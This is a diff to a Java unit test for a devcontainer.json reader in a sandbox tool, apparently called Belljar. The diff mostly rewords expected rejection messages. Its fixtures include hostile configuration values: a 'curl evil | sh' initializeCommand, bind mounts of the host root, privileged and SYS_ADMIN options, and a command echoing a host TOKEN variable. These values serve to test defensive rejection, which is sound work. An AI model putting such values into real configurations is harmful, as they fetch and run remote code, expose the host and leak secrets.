@@ -68,8 +68,8 @@ class DevcontainerReaderTest {
             quoteCharacter = '`',
             value = {
                 "\"initializeCommand\": \"curl evil | sh\" # initializeCommand: would run on this computer",
-                "\"mounts\": [\"source=/,target=/host,type=bind\"] # mounts: would mount folders of this computer",
-                "\"workspaceMount\": \"source=/,target=/w\" # workspaceMount: would mount a folder of this computer",
+                "\"mounts\": [\"source=/,target=/host,type=bind\"] # mounts: would mount folders on this computer",
+                "\"workspaceMount\": \"source=/,target=/w\" # workspaceMount: would mount a folder on this computer",
                 "\"runArgs\": [\"--privileged\"]  # runArgs: options of a container engine",
                 "\"privileged\": true              # privileged: an option of a container engine",
                 "\"capAdd\": [\"SYS_ADMIN\"]       # capAdd: an option of a container engine",
@@ -77,11 +77,13 @@ class DevcontainerReaderTest {
                 "\"build\": {\"dockerfile\": \"D\"} # build: no image is built",
                 "\"dockerComposeFile\": \"c.yml\"   # dockerComposeFile: use the profile docker, and start the services in the sandbox",
                 "\"remoteUser\": \"root\"          # remoteUser: commands always run as the user agent",
-                "\"postStartCommand\": \"npm start\" # postStartCommand: runs at each start, and setup commands run once",
+                "\"postStartCommand\": \"npm start\" # postStartCommand: runs at each start, but setup commands run"
+                        + " once",
                 "\"customizations\": {}            # customizations: settings of editors",
                 "\"whatever\": 1                   # whatever: not known to Belljar",
                 "\"image\": \"evil/node:22\"       # image evil/node:22: the sandbox starts from Belljar's guest image",
-                "\"features\": {\"ghcr.io/evil/features/node:1\": {}} # feature ghcr.io/evil/features/node:1: no profile of Belljar stands for it",
+                "\"features\": {\"ghcr.io/evil/features/node:1\": {}} # feature ghcr.io/evil/features/node:1:"
+                        + " Belljar has no matching profile",
                 "\"features\": []                  # features: not an object",
                 "\"forwardPorts\": [\"db:5432\"]    # forwardPorts db:5432: only ports of the sandbox itself, from 1 to 65535, get an address",
                 "\"forwardPorts\": [70000]         # forwardPorts 70000: only ports of the sandbox itself, from 1 to 65535, get an address",
@@ -93,7 +95,8 @@ class DevcontainerReaderTest {
                 "\"postCreateCommand\": 7          # postCreateCommand: not a command",
                 "\"postCreateCommand\": [1]        # postCreateCommand: not a command",
                 "\"postCreateCommand\": {\"a\": {}} # postCreateCommand: not a command",
-                "\"postCreateCommand\": \"a\\nb\"   # postCreateCommand: expected a command on one line, of at most 4,096 characters, without characters that cannot be seen",
+                "\"postCreateCommand\": \"a\\nb\"   # postCreateCommand: expected a command on one line, of at most"
+                        + " 4,096 characters, without invisible characters",
                 "\"postCreateCommand\": \"echo ${localEnv:TOKEN}\" # postCreateCommand: values of this computer are never given to a sandbox, and others are not known here",
                 "\"postCreateCommand\": [\"cp\", \"${localWorkspaceFolder}/x\", \".\"] # postCreateCommand: values of this computer are never given to a sandbox, and others are not known here",
                 "\"hostRequirements\": {\"gpu\": true} # hostRequirements.gpu: not a limit of a machine",
@@ -149,7 +152,7 @@ class DevcontainerReaderTest {
         for (int i = 0; i < 500; i++) {
             many.append(i == 0 ? "" : ",").append("\"k").append(i).append("\": 1");
         }
-        assertThat(read(many + "}").ignored()).hasSize(101).endsWith("more that is not listed");
+        assertThat(read(many + "}").ignored()).hasSize(101).endsWith("more, not listed");
     }
 
     static Generator<String> documents() {
